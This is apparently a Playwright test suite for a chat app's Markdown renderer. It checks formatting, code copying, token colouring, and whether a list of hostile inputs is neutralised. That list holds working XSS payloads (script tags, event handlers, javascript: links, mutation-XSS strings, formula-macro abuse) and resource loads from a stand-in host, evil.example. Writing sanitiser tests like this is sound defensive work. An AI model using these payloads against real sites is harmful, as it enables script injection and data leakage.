"""The Markdown of answers in a browser: what is rendered, in the colours of its tokens, and what hostile
text cannot do."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import httpx
import msgspec
import pytest
from headway_testing.chat_page import COMPLETIONS, ChatPage
from headway_testing.fake_engine import INFO, FakeEngine
from headway_testing.waiting import until
from playwright.async_api import Request, expect

from headway.server.text.tokenizer import Tokenizer

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.slow]
Answer = Callable[..., None]

CODE = "import os\n\ndef close(path: str) -> None:\n    os.remove(path)  # gone & <b>done</b>"
PAGE = f"""# Heading

Some **strong**, *stressed*, ~~struck~~ words, `inline code` and \\*escaped\\* stars; 1 &lt; 2.
A second line.

1. first
2. second
   - nested

- [x] finished

| name | sum |
|:---|---:|
| apple | 11 |

> quoted

```python
{CODE}
```

Inline $x_i^2$, \\(\\alpha\\) and a price of $5 or $6.

$$
\\frac{{1}}{{2}} = \\sqrt{{y}}
$$

The end.
"""
CALLS_HOME = "document.title='taken'"
HOSTILE = {
    "script": f"<script>{CALLS_HOME}</script>",
    "block-script": f"\n\n<script>\n{CALLS_HOME}\n</script>\n\n",
    "handler": f"<img src=x onerror={CALLS_HOME}> <svg onload={CALLS_HOME}>",
    "block-handler": f"\n\n<div onclick={CALLS_HOME} style='position:fixed;inset:0'>x</div>\n\n<details open ontoggle={CALLS_HOME}>",
    "frame": "\n\n<iframe srcdoc='<script>top.document.title=1</script>'></iframe><object data=x></object><embed src=x>",
    "page": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=https://evil.example/x.css>",
    "style": "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "form": "<form action=https://evil.example><input name=key autofocus><button formaction=https://evil.example>x</button></form>",
    "picture": "![pixel](https://evil.example/p.png?leak) ![ref][r]\n\n[r]: https://evil.example/r.png 'x'",
    "link": f"[a](javascript:{CALLS_HOME}) [b](https://evil.example 'title') <https://evil.example> https://evil.example me@evil.example",
    "data-link": "[c](data:text/html,<script>top.document.title=1</script>) [d](vbscript:x) [e](&#106;avascript:x)",
    "attribute": '[x](https://evil.example/"onmouseover="document.title=1") `"><img src=x onerror=alert(1)>`',
    "fence": f'```"><img/src=x/onerror={CALLS_HOME}>\n<script>{CALLS_HOME}</script>\n```\n\n~~~js" onload="{CALLS_HOME}\nx\n~~~',
    "fence-language": "```constructor\nx\n```\n\n```__proto__\ny\n```",
    "formula": "$\\href{javascript:document.title=1}{x}$ $\\url{https://evil.example}$ $\\includegraphics[height=1em]{https://evil.example/i.png}$",
    "formula-html": "$\\htmlStyle{position:fixed}{x}$ $\\htmlClass{primary}{x}$ $\\htmlId{chat-send}{x}$ $\\text{<img src=x onerror=alert(1)>}$",
    "formula-macro": "$\\def\\a{\\a\\a}\\a$ $$\\rule{1000000em}{1000000em}$$ $\\color{url(https://evil.example)}x$",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>",
    "names": "<a id=chat-input name=body>x</a> <img name=getElementById> <input name=cookie>",
    "entities": "&lt;script&gt;document.title=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "comment": "<!-- x --> <?php x ?> <![CDATA[ x ]]> <!DOCTYPE html>",
    "table": f"| <img src=x onerror={CALLS_HOME}> | b |\n|---|---|\n| [a](javascript:x) | <script>x</script> |",
    "direction": "safe \u202egnp.exe\u202c \u0000 \ufffe end",
    "deep": "> " * 60 + "x\n\n" + "- " * 40 + "y",
    "many-brackets": "[" * 300 + "]" * 300 + "*" * 300 + "$" * 301,
}
FORBIDDEN = ":is(a, img, script, iframe, object, embed, svg, form, input, style, link, meta, base, details, audio, video, [id], [href], [src], [style], [srcdoc])"


@pytest.fixture
def engine() -> FakeEngine:
    """One with room for a page."""
    return FakeEngine(msgspec.structs.replace(INFO, max_model_len=4096))


async def test_markdown_is_rendered(chat: ChatPage, answer: Answer) -> None:
    answer(PAGE)
    content = (await chat.ask("Hello")).locator(".content")
    await expect(content.locator("h4")).to_have_text("Heading")
    await expect(content.locator(":is(strong, em, del)")).to_have_text(["strong", "stressed", "struck"])
    await expect(content.locator("p").first).to_contain_text("inline code and *escaped* stars; 1 < 2.")
    await expect(content.locator("p").first.locator("br")).to_have_count(1)
    await expect(content.locator("ol > li")).to_contain_text(["first", "second"])
    await expect(content.locator("ol ul > li")).to_have_text("nested")
    await expect(content.locator("td")).to_have_text(["apple", "11"])
    await expect(content.locator("td").last).to_have_css("text-align", "right")
    await expect(content.locator("blockquote")).to_have_text("quoted")
    await expect(content.locator("pre .hljs-keyword").first).to_have_text("import")
    await expect(content.locator(".formula math")).to_have_count(3)
    await expect(content.locator(".formula.display mfrac")).to_have_count(1)
    await expect(content.locator("p", has_text="a price")).to_contain_text("a price of $5 or $6.")
    await expect(content.locator("annotation")).to_have_count(0)


async def test_code_is_copied_as_it_was_written(chat: ChatPage, answer: Answer) -> None:
    answer(PAGE)
    shown = await chat.ask("Hello")
    await expect(shown.locator(".code .row")).to_contain_text("Python")
    button = shown.get_by_label("Copy this code")
    await button.click()
    await expect(button).to_have_text("Copied")
    assert await chat.page.evaluate("navigator.clipboard.readText()") == CODE


@pytest.mark.parametrize("rounds", [1, 5])
async def test_rendered_words_have_the_colours_of_their_tokens(
    chat: ChatPage, answer: Answer, engine: FakeEngine, tokenizer: Tokenizer, address: str, rounds: int
) -> None:
    engine.tokens_per_round = rounds
    answer(PAGE)
    await chat.ask("Hello")
    body = {
        "messages": [{"role": "user", "content": "Hello"}], "return_token_ids": True, "speculation": {"draft_positions": True},
    }  # fmt: skip
    async with httpx.AsyncClient() as client:
        response = await client.post(f"{address}/v1/chat/completions", json=body)
    (choice,) = response.json()["choices"]
    text = tokenizer.full_vocabulary.decode(choice["token_ids"])
    told = list(
        zip(choice["speculation"]["draft_positions"], choice["speculation"]["text_offset"], strict=True)
    )
    expected = [[position for position, start in told if start <= i][-1] for i in range(len(text))]
    runs = await chat.runs(".answer .content")
    shown = "".join(piece for piece, _ in runs)
    colours = [position for piece, position in runs for _ in piece]
    words = [
        word for word in set(re.findall(r"[A-Za-z]{4,}", PAGE)) if text.count(word) == shown.count(word) == 1
    ]
    assert len(words) > 15
    for word in words:
        begin, place = text.index(word), shown.index(word)
        assert colours[place : place + len(word)] == expected[begin : begin + len(word)], word


@pytest.mark.parametrize("kind", HOSTILE)
async def test_hostile_markdown_runs_leads_and_loads_nothing(
    chat: ChatPage, answer: Answer, address: str, kind: str
) -> None:
    """The fixture checks the console: not even the page's policy had to refuse anything."""
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    chat.page.on("request", note)
    answer(f"{HOSTILE[kind]}\n\nThe end.")
    shown = await chat.ask("Hello")
    await until(lambda: any(url.endswith("katex.min.js") for url in asked))
    await expect(shown.locator(".content")).to_contain_text("The end.")
    await expect(shown.locator(".content.markdown")).to_have_count(1)
    assert await shown.locator(f".content {FORBIDDEN}").count() == 0
    attributes = await shown.locator(".content *").evaluate_all(
        "all => [...new Set(all.flatMap((one) => one.getAttributeNames()))]"
    )
    assert [name for name in attributes if name.startswith("on")] == []
    for part in await shown.locator(".content :is(p, pre, td, span)").all():
        await part.dispatch_event("click")
        await part.dispatch_event("mouseover")
    assert await chat.page.title() == "Headway · tiny"
    assert chat.page.url == f"{address}/dashboard#chat"
    assert [url for url in asked if not url.startswith(address)] == []
    await expect(chat.find("#chat-send")).to_be_in_viewport(ratio=1)
    chat.page.remove_listener("request", note)


async def test_what_is_not_rendered_is_shown_as_it_was_written(chat: ChatPage, answer: Answer) -> None:
    answer("[text](https://example.org/x) ![alt](https://example.org/y) <b>bold</b> $\\nonsense{$")
    shown = await chat.ask("Hello")
    await expect(shown.locator(".content.markdown")).to_have_text(
        "text (https://example.org/x) ![alt](https://example.org/y) <b>bold</b> $\\nonsense{$"
    )


async def test_what_is_nested_too_deeply_is_shown_as_text(chat: ChatPage) -> None:
    text = "> " * 30_000 + "x"
    chunk = json.dumps({"choices": [{"delta": {"content": text}, "finish_reason": "stop"}]})
    body = f"data: {chunk}\n\ndata: [DONE]\n\n"
    await chat.page.route(COMPLETIONS, lambda route: route.fulfill(body=body))
    shown = await chat.ask("Hello")
    await expect(shown.locator(".error")).to_be_empty()
    assert (await chat.texts())[1] == text
